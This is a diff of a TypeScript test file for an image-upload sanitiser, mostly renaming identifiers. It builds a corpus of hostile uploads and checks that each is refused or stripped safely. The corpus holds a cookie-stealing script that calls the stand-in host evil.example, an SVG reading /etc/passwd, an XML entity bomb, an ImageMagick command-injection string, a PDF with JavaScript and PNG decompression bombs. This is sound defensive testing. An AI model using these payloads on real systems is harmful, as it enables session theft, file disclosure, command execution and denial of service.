@@ -1,7 +1,7 @@
 /**
- * A corpus of hostile files uploaded instead of a photo. Each is refused with a reason or made
- * harmless; none ends the process, takes long or fills the memory. The files are made here, so that
- * none of them is in the repository.
+ * Hostile files uploaded instead of a photo. Each is refused with a reason or made harmless; none
+ * ends the process, takes long or fills the memory. The files are generated here, so that the
+ * repository contains none of them.
  */
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
@@ -9,22 +9,22 @@ import { crc32, deflateSync, gzipSync } from 'node:zlib'
 
 import sharp from 'sharp'
 
-import { preparePhoto, type PhotoRefusal } from './prepare-photo.ts'
+import { preparePhoto, type PhotoProblem } from './prepare-photo.ts'
 
-type Made = { name: string; bytes: Buffer; ends: PhotoRefusal | 'harmless' }
+type HostileFile = { name: string; bytes: Buffer; outcome: PhotoProblem | 'harmless' }
 
 const [width, height] = [800, 600]
-const plain = () =>
+const plainPicture = () =>
   sharp({ create: { width, height, channels: 3, background: { r: 200, g: 120, b: 90 } } })
-const jpeg = await plain().jpeg().toBuffer()
-const png = await plain().png().toBuffer()
-const webp = await plain().webp().toBuffer()
+const jpeg = await plainPicture().jpeg().toBuffer()
+const png = await plainPicture().png().toBuffer()
+const webp = await plainPicture().webp().toBuffer()
 const script = '<script>fetch("//evil.example/"+document.cookie)</script>'
 const svg = (inside: string) =>
   Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600">${inside}</svg>`)
 
 /** A PNG of a header and at most one extra chunk. */
-function pngOf(
+function createPng(
   size: [number, number],
   options: { colour?: number; extra?: Buffer; rows?: Buffer },
 ) {
@@ -51,87 +51,111 @@ function chunk(type: string, data: Buffer): Buffer {
 }
 
 /** Inserts bytes at a position of a file. */
-const insert = (file: Buffer, at: number, more: Buffer) =>
-  Buffer.concat([file.subarray(0, at), more, file.subarray(at)])
+const insertBytes = (file: Buffer, at: number, inserted: Buffer) =>
+  Buffer.concat([file.subarray(0, at), inserted, file.subarray(at)])
 
 /** Inserts a JPEG segment after the first marker. */
 function withSegment(marker: number, text: string): Buffer {
   const data = Buffer.from(text, 'latin1')
   const head = Buffer.from([0xff, marker, (data.length + 2) >> 8, (data.length + 2) & 255])
-  return insert(jpeg, 2, Buffer.concat([head, data]))
+  return insertBytes(jpeg, 2, Buffer.concat([head, data]))
 }
 
-/** Scanlines of a real grey picture of the usual size. */
+/** Scan lines of a valid grey picture of the usual size. */
 const rows = Buffer.alloc((width + 1) * height, 0)
 /** 50 million zeros, compressed to 50 kB. */
 const bomb = deflateSync(Buffer.alloc(50_000_000))
 
-const corpus: Made[] = [
-  { name: 'nothing at all', bytes: Buffer.alloc(0), ends: 'empty' },
-  { name: 'one byte', bytes: Buffer.from([0xff]), ends: 'kind' },
-  { name: 'plain text', bytes: Buffer.from('a picture, honestly'), ends: 'kind' },
-  { name: 'a page named photo.png', bytes: Buffer.from(`<html>${script}</html>`), ends: 'kind' },
-  { name: 'an SVG with a script', bytes: svg(script), ends: 'kind' },
-  { name: 'an SVG that loads', bytes: svg('<image href="file:///etc/passwd"/>'), ends: 'kind' },
+const corpus: HostileFile[] = [
+  { name: 'an empty file', bytes: Buffer.alloc(0), outcome: 'empty' },
+  { name: 'one byte', bytes: Buffer.from([0xff]), outcome: 'kind' },
+  { name: 'plain text', bytes: Buffer.from('a picture, honestly'), outcome: 'kind' },
+  { name: 'a page named photo.png', bytes: Buffer.from(`<html>${script}</html>`), outcome: 'kind' },
+  { name: 'an SVG with a script', bytes: svg(script), outcome: 'kind' },
   {
-    name: 'an SVG of entities that grow',
+    name: 'an SVG that loads a file',
+    bytes: svg('<image href="file:///etc/passwd"/>'),
+    outcome: 'kind',
+  },
+  {
+    name: 'an SVG with exponential entities',
     bytes: Buffer.from(
       `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "${'x'.repeat(99)}"><!ENTITY b "${'&a;'.repeat(99)}">]><svg>&b;</svg>`,
     ),
-    ends: 'kind',
+    outcome: 'kind',
   },
-  { name: 'a packed SVG', bytes: gzipSync(svg(script)), ends: 'kind' },
-  { name: 'an SVG behind a mark', bytes: Buffer.from(`\ufeff  ${svg(script)}`), ends: 'kind' },
-  { name: 'a PDF', bytes: Buffer.from('%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>'), ends: 'kind' },
-  { name: 'a GIF that is a script', bytes: Buffer.from('GIF89a/*'.padEnd(90, '*')), ends: 'kind' },
-  { name: 'a real GIF', bytes: await plain().gif().toBuffer(), ends: 'kind' },
-  { name: 'an AVIF', bytes: await plain().avif({ effort: 0 }).toBuffer(), ends: 'kind' },
-  { name: 'a TIFF', bytes: await plain().tiff().toBuffer(), ends: 'kind' },
-  { name: 'a ZIP', bytes: Buffer.from('PK\x03\x04evil.js'), ends: 'kind' },
-  { name: 'a program', bytes: Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), ends: 'kind' },
+  { name: 'a gzipped SVG', bytes: gzipSync(svg(script)), outcome: 'kind' },
   {
-    name: 'a drawing language',
-    bytes: Buffer.from('push graphic-context\nurl(|id)'),
-    ends: 'kind',
+    name: 'an SVG after a byte order mark',
+    bytes: Buffer.from(`\ufeff  ${svg(script)}`),
+    outcome: 'kind',
   },
-  { name: 'a BMP header', bytes: Buffer.from('BM\x36\x00\x00\x00'), ends: 'kind' },
-  { name: 'an HEIC header', bytes: Buffer.from('\0\0\0\x18ftypheic', 'latin1'), ends: 'kind' },
-  { name: 'only the first bytes of a JPEG', bytes: jpeg.subarray(0, 3), ends: 'damaged' },
-  { name: 'half a JPEG', bytes: jpeg.subarray(0, jpeg.length / 2), ends: 'damaged' },
-  { name: 'half a PNG', bytes: png.subarray(0, png.length / 2), ends: 'damaged' },
-  { name: 'half a WebP', bytes: webp.subarray(0, webp.length / 2), ends: 'damaged' },
+  { name: 'a PDF', bytes: Buffer.from('%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>'), outcome: 'kind' },
+  {
+    name: 'a GIF that is a script',
+    bytes: Buffer.from('GIF89a/*'.padEnd(90, '*')),
+    outcome: 'kind',
+  },
+  { name: 'a real GIF', bytes: await plainPicture().gif().toBuffer(), outcome: 'kind' },
+  { name: 'an AVIF', bytes: await plainPicture().avif({ effort: 0 }).toBuffer(), outcome: 'kind' },
+  { name: 'a TIFF', bytes: await plainPicture().tiff().toBuffer(), outcome: 'kind' },
+  { name: 'a ZIP', bytes: Buffer.from('PK\x03\x04evil.js'), outcome: 'kind' },
+  { name: 'a program', bytes: Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), outcome: 'kind' },
+  {
+    name: 'an ImageMagick script (MVG)',
+    bytes: Buffer.from('push graphic-context\nurl(|id)'),
+    outcome: 'kind',
+  },
+  { name: 'a BMP header', bytes: Buffer.from('BM\x36\x00\x00\x00'), outcome: 'kind' },
+  { name: 'an HEIC header', bytes: Buffer.from('\0\0\0\x18ftypheic', 'latin1'), outcome: 'kind' },
+  { name: 'only the first bytes of a JPEG', bytes: jpeg.subarray(0, 3), outcome: 'damaged' },
+  { name: 'half a JPEG', bytes: jpeg.subarray(0, jpeg.length / 2), outcome: 'damaged' },
+  { name: 'half a PNG', bytes: png.subarray(0, png.length / 2), outcome: 'damaged' },
+  { name: 'half a WebP', bytes: webp.subarray(0, webp.length / 2), outcome: 'damaged' },
   {
     name: 'a PNG signature before a page',
-    bytes: insert(png, 8, Buffer.from(script)),
-    ends: 'damaged',
+    bytes: insertBytes(png, 8, Buffer.from(script)),
+    outcome: 'damaged',
   },
   {
     name: 'a WebP header before text',
     bytes: Buffer.from(`RIFF\x10\0\0\0WEBP${script}`),
-    ends: 'damaged',
+    outcome: 'damaged',
   },
-  { name: 'a PNG whose sums are wrong', bytes: Buffer.from(png).fill(7, 40, 48), ends: 'damaged' },
-  { name: 'a PNG of a million by a million', bytes: pngOf([1e6, 1e6], {}), ends: 'pixels' },
-  { name: 'a PNG of 30,000 by 30,000', bytes: pngOf([3e4, 3e4], { rows: bomb }), ends: 'pixels' },
-  { name: 'a PNG without size', bytes: pngOf([0, 0], {}), ends: 'damaged' },
-  { name: 'a PNG that ends too early', bytes: pngOf([width, height], {}), ends: 'damaged' },
   {
-    name: 'a JPEG whose header lies',
+    name: 'a PNG with wrong checksums',
+    bytes: Buffer.from(png).fill(7, 40, 48),
+    outcome: 'damaged',
+  },
+  { name: 'a PNG of a million by a million', bytes: createPng([1e6, 1e6], {}), outcome: 'pixels' },
+  {
+    name: 'a PNG of 30,000 by 30,000',
+    bytes: createPng([3e4, 3e4], { rows: bomb }),
+    outcome: 'pixels',
+  },
+  { name: 'a PNG without size', bytes: createPng([0, 0], {}), outcome: 'damaged' },
+  { name: 'a PNG that ends too early', bytes: createPng([width, height], {}), outcome: 'damaged' },
+  {
+    name: 'a JPEG with a false size in its header',
     bytes: Buffer.concat([
       jpeg.subarray(0, jpeg.indexOf(Buffer.from([0xff, 0xc0])) + 5),
       Buffer.from([0x80, 0, 0x80, 0]),
       jpeg.subarray(jpeg.indexOf(Buffer.from([0xff, 0xc0])) + 9),
     ]),
-    ends: 'pixels',
+    outcome: 'pixels',
   },
   {
-    name: 'a strip',
-    bytes: await plain().resize(4000, 700, { fit: 'fill' }).png().toBuffer(),
-    ends: 'shape',
+    name: 'a picture that is too wide',
+    bytes: await plainPicture().resize(4000, 700, { fit: 'fill' }).png().toBuffer(),
+    outcome: 'shape',
   },
-  { name: 'a stamp', bytes: await plain().resize(40, 40).png().toBuffer(), ends: 'small' },
   {
-    name: 'a WebP that moves',
+    name: 'a picture that is too small',
+    bytes: await plainPicture().resize(40, 40).png().toBuffer(),
+    outcome: 'small',
+  },
+  {
+    name: 'an animated WebP',
     bytes: await sharp(
       // Each frame has another grey, or the encoder would merge them.
       Buffer.concat(Array.from({ length: 20 }, (_, frame) => Buffer.alloc(rows.length, frame * 9))),
@@ -139,99 +163,103 @@ const corpus: Made[] = [
     )
       .webp({ loop: 0, delay: Array.from({ length: 20 }, () => 50) })
       .toBuffer(),
-    ends: 'moving',
+    outcome: 'moving',
   },
-  // Valid pictures that carry something else.
+  // Valid pictures with something else inside.
   {
-    name: 'a JPEG that is a page after its end',
+    name: 'a JPEG with a page after its end',
     bytes: Buffer.concat([jpeg, Buffer.from(script)]),
-    ends: 'harmless',
+    outcome: 'harmless',
   },
   {
     name: 'a JPEG with a ZIP behind it',
     bytes: Buffer.concat([jpeg, Buffer.from('PK\x03\x04evil.js')]),
-    ends: 'harmless',
+    outcome: 'harmless',
   },
-  { name: 'a JPEG with a page as its comment', bytes: withSegment(0xfe, script), ends: 'harmless' },
+  {
+    name: 'a JPEG with a page as its comment',
+    bytes: withSegment(0xfe, script),
+    outcome: 'harmless',
+  },
   {
     name: 'a JPEG with XMP',
     bytes: withSegment(0xe1, `http://ns.adobe.com/xap/1.0/\0${script}`),
-    ends: 'harmless',
+    outcome: 'harmless',
   },
   {
-    name: 'a JPEG that says where it was taken',
-    bytes: await plain()
+    name: 'a JPEG with its GPS position',
+    bytes: await plainPicture()
       .withExif({
         IFD0: { Artist: script },
         IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '3/1 8/1 0/1' },
       })
       .jpeg()
       .toBuffer(),
-    ends: 'harmless',
+    outcome: 'harmless',
   },
   {
-    name: 'a PNG with a bomb in its words',
-    bytes: pngOf([width, height], {
+    name: 'a PNG with a decompression bomb as text',
+    bytes: createPng([width, height], {
       rows,
       extra: chunk('zTXt', Buffer.concat([Buffer.from('a\0\0'), bomb])),
     }),
-    ends: 'harmless',
+    outcome: 'harmless',
   },
   {
-    name: 'a PNG with a bomb as its colours',
-    bytes: pngOf([width, height], {
+    name: 'a PNG with a decompression bomb as colour profile',
+    bytes: createPng([width, height], {
       rows,
       extra: chunk('iCCP', Buffer.concat([Buffer.from('a\0\0'), bomb])),
     }),
-    ends: 'harmless',
+    outcome: 'harmless',
   },
   {
-    name: 'a PNG with a page in its words',
-    bytes: pngOf([width, height], { rows, extra: chunk('tEXt', Buffer.from(`c\0${script}`)) }),
-    ends: 'harmless',
+    name: 'a PNG with a page as text',
+    bytes: createPng([width, height], { rows, extra: chunk('tEXt', Buffer.from(`c\0${script}`)) }),
+    outcome: 'harmless',
   },
   {
-    name: 'a PNG with frames',
-    bytes: pngOf([width, height], {
+    name: 'an animated PNG',
+    bytes: createPng([width, height], {
       rows,
       extra: chunk('acTL', Buffer.from([0, 0, 0, 9, 0, 0, 0, 0])),
     }),
-    ends: 'harmless',
+    outcome: 'harmless',
   },
 ]
 
 test(`each of ${corpus.length} hostile files is refused or made harmless within time and memory limits`, async (t) => {
   assert.ok(corpus.length >= 30)
   const before = process.memoryUsage().rss
-  for (const { name, bytes, ends } of corpus)
+  for (const { name, bytes, outcome } of corpus)
     await t.test(name, async () => {
       const startedAt = performance.now()
-      const made = await preparePhoto(bytes)
-      assert.equal(made.ok ? 'harmless' : made.reason, ends)
+      const result = await preparePhoto(bytes)
+      assert.equal(result.ok ? 'harmless' : result.reason, outcome)
       assert.ok(performance.now() - startedAt < 10_000, 'it took too long')
-      if (!made.ok) return
+      if (!result.ok) return
       assert.deepEqual(
-        made.files.map((file) => file.name),
+        result.files.map((file) => file.name),
         ['photo-320.avif', 'photo-320.webp', 'photo-640.avif', 'photo-640.webp'],
       )
-      for (const file of made.files) {
-        const seen = await sharp(file.bytes).metadata()
-        assert.match(String(seen.format), /^(heif|webp)$/)
-        for (const carried of ['exif', 'xmp', 'icc', 'iptc', 'comments'] as const)
-          assert.equal(seen[carried], undefined, carried)
+      for (const file of result.files) {
+        const metadata = await sharp(file.bytes).metadata()
+        assert.match(String(metadata.format), /^(heif|webp)$/)
+        for (const field of ['exif', 'xmp', 'icc', 'iptc', 'comments'] as const)
+          assert.equal(metadata[field], undefined, field)
         const text = file.bytes.toString('latin1')
         assert.doesNotMatch(text, /<script|evil/)
       }
     })
-  const grown = (process.memoryUsage().rss - before) / 1024 / 1024
-  assert.ok(grown < 150, `memory grew by ${Math.round(grown)} MB`)
+  const growthMb = (process.memoryUsage().rss - before) / 1024 / 1024
+  assert.ok(growthMb < 150, `memory grew by ${Math.round(growthMb)} MB`)
 })
 
 test('a photo is rotated by its EXIF orientation', async () => {
-  const turned = await plain().withMetadata({ orientation: 6 }).jpeg().toBuffer()
-  const made = await preparePhoto(turned)
-  assert.ok(!made.ok && made.reason === 'small', 'upright it is 600 wide')
-  const large = await sharp(turned, { autoOrient: false })
+  const rotatedFile = await plainPicture().withMetadata({ orientation: 6 }).jpeg().toBuffer()
+  const result = await preparePhoto(rotatedFile)
+  assert.ok(!result.ok && result.reason === 'small', 'upright it is 600 wide')
+  const large = await sharp(rotatedFile, { autoOrient: false })
     .resize(1000, 800)
     .withMetadata({ orientation: 6 })
     .jpeg()
@@ -242,6 +270,6 @@ test('a photo is rotated by its EXIF orientation', async () => {
 })
 
 test('many simultaneous photos are decoded in turn', async () => {
-  const made = await Promise.all(Array.from({ length: 6 }, () => preparePhoto(jpeg)))
-  assert.ok(made.every(({ ok }) => ok))
+  const result = await Promise.all(Array.from({ length: 6 }, () => preparePhoto(jpeg)))
+  assert.ok(result.every(({ ok }) => ok))
 })
